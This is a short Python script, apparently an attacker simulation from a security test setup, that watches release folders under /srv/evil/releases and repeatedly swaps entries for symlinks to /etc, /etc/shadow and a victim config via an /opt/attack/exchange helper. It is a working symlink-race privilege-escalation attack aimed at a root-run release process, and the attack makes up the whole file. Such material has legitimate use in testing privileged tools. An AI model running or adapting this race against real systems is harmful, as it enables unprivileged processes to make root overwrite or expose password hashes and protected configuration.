"""watch.py SECONDS: what a live process of an app does to the releases that root makes beside it.

In each folder that it finds, it puts a link beside a folder or file of its own and exchanges the two all the time: the
link leads to what only root may touch.
"""

import glob
import os
import subprocess
import sys
import time

TARGETS = {"trap": "/etc", "victim": "/srv/victim/config", "shadow": "/etc/shadow"}
end = time.monotonic() + float(sys.argv[1])
seen = set()
while time.monotonic() < end:
    for folder in glob.glob("/srv/evil/releases/*/*") + glob.glob("/srv/evil/releases/*/src/notes/static"):
        for name, target in TARGETS.items():
            path = f"{folder}/{name}"
            if path in seen or os.path.islink(path) or not os.path.exists(path):
                continue
            try:
                os.symlink(target, f"{path}.link")
            except OSError:
                continue
            seen.add(path)
            left = str(int(end - time.monotonic()) + 1)
            subprocess.Popen(["/opt/attack/exchange", path, f"{path}.link", left])
    time.sleep(0.002)
